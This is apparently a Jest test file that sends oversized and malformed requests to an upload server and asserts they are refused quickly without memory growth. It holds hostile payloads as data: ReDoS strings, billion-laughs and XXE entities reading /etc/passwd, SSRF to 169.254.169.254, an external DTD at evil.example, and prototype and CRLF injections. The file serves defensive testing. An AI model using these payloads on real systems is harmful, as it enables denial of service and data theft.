// Requests that are meant to cost more than they should: refused before they do, and fast.
//
// After all of them the server's memory is what it was. Slow clients and 10,000 creations: test/guards.

import { readFile } from 'node:fs/promises'
import { beforeAll, expect, test } from '@jest/globals'
import {
  anonymous,
  type Case,
  type Expected,
  type Ground,
  hostileGround,
  json,
  signed,
  TUS,
} from './harness.js'

const { table, ground } = hostileGround()

const refused = { status: 400, code: 'INVALID_INPUT' } as const
const tooLarge = { status: 413, code: 'PAYLOAD_TOO_LARGE' } as const
/** Headers past 16 KiB; with what may be a credential among them, that is what is wrong. */
const overflow: Expected & { mustClose: true } = { status: [401, 431], mustClose: true }

const MOST_GROWTH_KIB = 256 * 1024

let residentKib: number
beforeAll(async () => {
  residentKib = await resident()
})

async function resident(): Promise<number> {
  const status = await readFile(`/proc/${ground().server.pid}/status`, 'utf8')
  return Number(/^VmRSS:\s+(\d+)/m.exec(status)?.[1])
}

table('queries', [
  { name: '100,000 keys', ...overflow, send: (g) => signed(g, `GET /uploads?${'a=1&'.repeat(100_000)}`) },
  {
    name: '100,000 keys without a credential',
    ...overflow,
    send: () => anonymous(`GET /?${'a=1&'.repeat(100_000)}`),
  },
  {
    name: '3,700 keys, all that fit',
    ...refused,
    send: (g) => signed(g, `GET /uploads?${'a=1&'.repeat(3700)}`),
  },
  {
    name: '3,000 different keys',
    ...refused,
    send: (g) =>
      signed(g, `GET /uploads?${Array.from({ length: 3000 }, (_, i) => i.toString(36)).join('&')}`),
  },
  {
    name: '2,000 filters by metadata',
    ...refused,
    send: (g) =>
      signed(g, `GET /packages?${Array.from({ length: 800 }, (_, i) => `metadata.k${i}=`).join('&')}`),
  },
  {
    name: 'brackets 3,000 deep',
    ...refused,
    send: (g) => signed(g, `GET /uploads?a${'[a]'.repeat(3000)}=1`),
  },
  { name: '5,000 escapes', ...refused, send: (g) => signed(g, `GET /uploads?q=${'%41'.repeat(5000)}`) },
  {
    name: 'a label of 15,000 characters',
    ...refused,
    send: (g) => signed(g, `GET /uploads?label=${'x'.repeat(15_000)}`),
  },
  ...[
    '(a+)+$',
    '((a*)*)*b',
    '%'.repeat(200),
    '_'.repeat(200),
    '\\'.repeat(200),
    "'".repeat(200),
    '%_'.repeat(100),
  ].map(
    (text): Case => ({
      name: `a search for ${text.slice(0, 12)}`,
      status: 200,
      withinMs: 1000,
      check: ({ body }) => expect(JSON.parse(body.toString()).items).toEqual([]),
      send: (g) => signed(g, `GET /uploads?q=${encodeURIComponent(text)}`),
    }),
  ),
])

const served = { status: 200 } as const

table('headers', [
  {
    name: '15 KiB in one: they fit',
    ...served,
    send: (g) => signed(g, 'GET /uploads', [`X-Long: ${'x'.repeat(15_000)}`]),
  },
  {
    name: '17 KiB in one',
    ...overflow,
    send: () => anonymous('GET /healthz', [`X-Long: ${'x'.repeat(17_408)}`]),
  },
  {
    name: '1 MB in one',
    ...overflow,
    send: () => anonymous('GET /healthz', [`X-Long: ${'x'.repeat(1_000_000)}`]),
  },
  {
    name: '17 KiB in a name',
    ...overflow,
    send: () => anonymous('GET /healthz', [`${'X'.repeat(17_408)}: x`]),
  },
  {
    name: '17 KiB of a cookie',
    ...overflow,
    send: () => anonymous('GET /healthz', [`Cookie: ${'a=b;'.repeat(4352)}`]),
  },
  {
    name: '17 KiB that come byte by byte at their end',
    ...overflow,
    send: () => [
      'GET /healthz HTTP/1.1\r\nHost: a\r\nX-Long: ',
      'x'.repeat(16_300),
      ...'x'.repeat(300),
      '\r\n\r\n',
    ],
  },
  {
    name: '2,000 of them',
    status: [200, 400, 431],
    send: (g) =>
      signed(
        g,
        'GET /uploads',
        Array.from({ length: 2000 }, () => 'a:b'),
      ),
  },
  {
    name: '3,500 before the credential: it is not overlooked, or the request is refused',
    status: [200, 400, 431],
    send: (g) => anonymous('GET /uploads', [...Array.from({ length: 3500 }, () => 'a:b'), g.credential]),
  },
  {
    name: '3,500 before the length: the body is not overlooked',
    status: [400, 413, 431],
    send: (g) =>
      signed(
        g,
        `PATCH /uploads/${g.receiving}`,
        [
          TUS,
          'Upload-Offset: 2',
          'Content-Type: application/offset+octet-stream',
          ...Array.from({ length: 3500 }, () => 'a:b'),
          'Content-Length: 9',
        ],
        'cdefghijk',
      ),
  },
  {
    name: '100,000 of them',
    ...overflow,
    send: () =>
      anonymous(
        'GET /healthz',
        Array.from({ length: 100_000 }, () => 'a:b'),
      ),
  },
  {
    name: '10 kB of an Idempotency-Key',
    ...refused,
    send: (g) => json(g, 'POST /uploads', { filename: 'x' }, [`Idempotency-Key: ${'k'.repeat(10_000)}`]),
  },
  {
    name: '10 kB of Prefer',
    status: 400,
    code: 'INVALID_INPUT',
    send: (g) => signed(g, 'POST /files?size=1', [`Prefer: ${'a=b,'.repeat(2500)}`], ''),
  },
  {
    name: '10 kB of Content-Type',
    status: [400, 415],
    send: (g) => signed(g, 'POST /uploads', [`Content-Type: application/json${';a=b'.repeat(2500)}`], '{'),
  },
  {
    name: '10 kB of spaces in a Content-Type, which a slow expression would walk again and again',
    status: [400, 415],
    withinMs: 1000,
    send: (g) => signed(g, 'POST /uploads', [`Content-Type: application/json;${' '.repeat(10_000)}x`], '{}'),
  },
  {
    name: '10 kB of a Content-Type of quotes for a document',
    status: [400, 415],
    withinMs: 1000,
    send: (g) =>
      signed(
        g,
        `POST /eml?package_id=${g.openPackage}`,
        [`Content-Type: application/xml;${'charset="'.repeat(1000)}`],
        '<a',
      ),
  },
  {
    name: '10 kB of Accept where it is negotiated',
    status: [200, 400, 406],
    withinMs: 1000,
    send: (g) => signed(g, `GET /files/${g.ready.file_id}`, [`Accept: ${'a/b;q=0.1;c="\\"",'.repeat(800)}`]),
  },
  {
    name: '2,000 parts of a concatenation',
    status: [400, 404],
    code: ['INVALID_INPUT', 'NOT_FOUND'],
    withinMs: 1000,
    send: (g) => signed(g, 'POST /uploads', [TUS, `Upload-Concat: final;${'/uploads/a '.repeat(1400)}`]),
  },
])

/** A form whose `parts` are written as they are. */
const form = (g: Ground, parts: string, boundary = 'b') =>
  signed(g, 'POST /files', [`Content-Type: multipart/form-data; boundary=${boundary}`], parts)

const field = (name: string, value = '1') =>
  `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`
const file = (name = 'x') =>
  `--b\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n\r\nbytes\r\n`

table('forms', [
  {
    name: 'no boundary',
    ...refused,
    send: (g) => signed(g, 'POST /files', ['Content-Type: multipart/form-data'], 'x'),
  },
  { name: 'an empty boundary', ...refused, send: (g) => form(g, '--\r\n\r\n----', '""') },
  { name: 'a boundary of 10 kB', ...refused, send: (g) => form(g, 'x', 'b'.repeat(10_000)) },
  {
    name: 'another boundary than was told',
    ...refused,
    send: (g) => form(g, file().replaceAll('--b', '--c')),
  },
  { name: 'nothing', ...refused, send: (g) => form(g, '') },
  { name: 'nothing but its end', ...refused, send: (g) => form(g, '--b--\r\n') },
  { name: '10,000 fields', ...refused, send: (g) => form(g, field('a').repeat(10_000)) },
  {
    name: '10,000 different fields',
    ...refused,
    send: (g) => form(g, Array.from({ length: 10_000 }, (_, i) => field(`f${i}`)).join('')),
  },
  { name: 'a field of 10 MB', ...refused, send: (g) => form(g, field('label', 'x'.repeat(10_000_000))) },
  { name: 'a name of a field of 1 MB', ...refused, send: (g) => form(g, field('x'.repeat(1_000_000))) },
  {
    name: 'a prelude of 10 MB',
    ...refused,
    send: (g) => form(g, `${'x'.repeat(10_000_000)}\r\n${file()}--b--`),
  },
  { name: '10 MB of newlines', ...refused, send: (g) => form(g, '\r\n'.repeat(5_000_000)) },
  { name: '10 MB of hyphens', ...refused, send: (g) => form(g, '-'.repeat(10_000_000)) },
  { name: '10 MB of boundaries that are cut', ...refused, send: (g) => form(g, '\r\n--'.repeat(2_500_000)) },
  {
    name: 'a header of a part of 10 MB',
    ...refused,
    send: (g) => form(g, `--b\r\nX-A: ${'x'.repeat(10_000_000)}\r\n\r\n`),
  },
  {
    name: '100,000 headers of a part',
    ...refused,
    send: (g) => form(g, `--b\r\n${'X-A: b\r\n'.repeat(100_000)}\r\nx`),
  },
  { name: 'a field of a prototype', ...refused, send: (g) => form(g, `${field('__proto__')}${file()}--b--`) },
  {
    name: 'a field that nobody knows',
    ...refused,
    send: (g) => form(g, `${field('owner', 'stranger')}${file()}--b--`),
  },
  {
    name: 'a form in a form',
    ...refused,
    send: (g) =>
      form(
        g,
        '--b\r\nContent-Disposition: form-data; name="label"\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n' +
          '--c\r\nContent-Disposition: file; filename="x"\r\n\r\nx\r\n--c--\r\n--b--\r\n',
      ),
  },
  {
    name: 'a file in a part of another name',
    ...refused,
    send: (g) => form(g, `${file().replace('name="file"', 'name="upload"')}--b--\r\n`),
  },
  { name: 'a name with NUL', ...refused, send: (g) => form(g, `${file('a\0b')}--b--\r\n`) },
  { name: 'a name of CR and LF', ...refused, send: (g) => form(g, `${file('a%0D%0AX: y')}--b--\r\n`) },
  { name: 'a name of 10 kB', ...refused, send: (g) => form(g, `${file('x'.repeat(10_000))}--b--\r\n`) },
  {
    name: 'two files: neither is kept',
    ...refused,
    leavesTombstone: true,
    send: (g) => form(g, `${file()}${file()}--b--\r\n`),
  },
  {
    name: 'a file without an end: it is not kept',
    ...refused,
    leavesTombstone: true,
    send: (g) => form(g, file()),
  },
  {
    name: 'a file with a field behind it: it is not kept',
    ...refused,
    leavesTombstone: true,
    send: (g) => form(g, `${file()}${field('label')}--b--\r\n`),
  },
  {
    name: 'a file with 10 MB behind it: it is not kept',
    ...refused,
    leavesTombstone: true,
    send: (g) => form(g, `${file()}--b--\r\n${'x'.repeat(10_000_000)}`),
  },
  {
    name: 'fields in a form that is no form',
    status: 415,
    code: 'UNSUPPORTED_MEDIA_TYPE',
    send: (g) =>
      signed(
        g,
        'POST /packages',
        ['Content-Type: application/x-www-form-urlencoded'],
        'a=1&'.repeat(100_000),
      ),
  },
])

const inJson = (name: string, text: string, expected: Expected): Case => ({
  name,
  withinMs: 1500,
  ...expected,
  send: (g) => json(g, 'POST /packages', text),
})

table('JSON', [
  inJson('100,000 lists in each other', `${'['.repeat(100_000)}${']'.repeat(100_000)}`, {
    status: [400, 413],
  }),
  inJson('100,000 lists that are never closed', '['.repeat(100_000), { status: [400, 413] }),
  inJson('25,000 objects in each other', `${'{"a":'.repeat(25_000)}1${'}'.repeat(25_000)}`, {
    status: [400, 413],
  }),
  inJson('10,000 members', `{"name":"x",${Array.from({ length: 6000 }, (_, i) => `"k${i}":1`).join(',')}}`, {
    status: [400, 413],
  }),
  inJson(
    '12,000 members of metadata',
    `{"name":"x","metadata":{${Array.from({ length: 12_000 }, (_, i) => `"k${i}":1`).join(',')}}}`,
    {
      status: [400, 413],
    },
  ),
  inJson('a number of 60,000 digits', `{"name":"x","metadata":{"a":${'9'.repeat(60_000)}}}`, refused),
  inJson('60,000 spaces', `${' '.repeat(60_000)}x`, refused),
  inJson('10 MB', `{"name":"${'x'.repeat(10_000_000)}"}`, tooLarge),
  inJson('10,000 escapes of half pairs', `{"name":"${'\\ud800'.repeat(10_000)}"}`, refused),
  inJson('a label of 60,000 characters', `{"name":"x","label":"${'x'.repeat(60_000)}"}`, refused),
])

const document = (name: string, text: string | Uint8Array, expected: Expected = refused): Case => ({
  name,
  withinMs: 6000,
  ...expected,
  send: (g) => signed(g, `POST /eml?package_id=${g.openPackage}`, ['Content-Type: application/xml'], text),
})

const eml = (inside: string) =>
  `<eml:eml xmlns:eml="https://eml.ecoinformatics.org/eml-2.2.0">${inside}</eml:eml>`
const laughs = Array.from({ length: 10 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')

table('EML', [
  document('a billion laughs', `<!DOCTYPE e [<!ENTITY l0 "ha">${laughs}]>${eml('&l10;')}`),
  document(
    'quadratic laughs',
    `<!DOCTYPE e [<!ENTITY a "${'a'.repeat(50_000)}">]>${eml('&a;'.repeat(50_000))}`,
  ),
  document('a file by an entity', `<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/passwd">]>${eml('&x;')}`, {
    ...refused,
    check: ({ body }) => expect(body.toString()).not.toContain('root:'),
  }),
  document(
    'a service by an entity',
    `<!DOCTYPE e [<!ENTITY x SYSTEM "http://169.254.169.254/">]>${eml('&x;')}`,
  ),
  document(
    'a parameter entity',
    `<!DOCTYPE e [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]>${eml('')}`,
  ),
  document('a DOCTYPE of another host', `<!DOCTYPE e SYSTEM "http://evil.example/x.dtd">${eml('')}`),
  document('a DOCTYPE in small letters', `<!doctype html>${eml('')}`),
  document('an entity that nobody has told of', eml('&evil;')),
  document('a character that XML hasn’t', eml('&#0;')),
  document('a character past Unicode', eml('&#x110000;')),
  document('100,000 elements in each other', `${'<a>'.repeat(100_000)}`),
  document('100,000 attributes', `<a ${Array.from({ length: 100_000 }, (_, i) => `b${i}=""`).join(' ')}/>`),
  document('an attribute of 5 MB', `<a b="${'x'.repeat(5_000_000)}"/>`),
  document('a name of 5 MB', `<${'a'.repeat(5_000_000)}/>`),
  document('5 MB of a tag that never ends', `<a ${' '.repeat(5_000_000)}`),
  document('a comment of 5 MB that never ends', `<!-- ${'-'.repeat(5_000_000)}`),
  document('5 MB of spaces before the root', ' '.repeat(5_000_000)),
  document('9 MB', eml('x'.repeat(9_000_000)), tooLarge),
  document('UTF-16', Buffer.from(`\ufeff${eml('')}`, 'utf16le')),
  document('UTF-7', eml('+ADw-').replace(/^/, '<?xml version="1.0" encoding="UTF-7"?>')),
  document('no UTF-8', Buffer.from([0x3c, 0xff, 0x3e])),
  document('two roots', `${eml('')}${eml('')}`),
  document('a page', '<!DOCTYPE html><html></html>'),
  document('nothing', ''),
  document('zeros', '\0'.repeat(1000)),
  document(
    'a style sheet, which nobody follows',
    `<?xml-stylesheet href="http://169.254.169.254/"?>${eml('')}`,
    {
      status: [200, 400],
    },
  ),
  document(
    'an XInclude, which nobody follows',
    eml('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    {
      status: [200, 400],
      check: ({ body }) => expect(body.toString()).not.toContain('root:'),
    },
  ),
])

table('many at once, in one connection', [
  {
    name: 'a thousand lists in one piece',
    ...refused,
    withinMs: 5000,
    more: Array.from({ length: 999 }, (): Expected => ({ ...refused, withinMs: 5000 })),
    send: (g) => Buffer.concat(Array.from({ length: 1000 }, () => signed(g, 'GET /uploads?limit=0'))),
  },
  {
    name: 'two thousand requests, and the end before their answers',
    status: 404,
    ending: 'destroy',
    send: (g) => [Buffer.concat(Array.from({ length: 2000 }, () => signed(g, 'GET /uploads/none'))), 200],
  },
])

test('the memory of all that is given back, or used again', async () => {
  expect((await resident()) - residentKib).toBeLessThan(MOST_GROWTH_KIB)
})
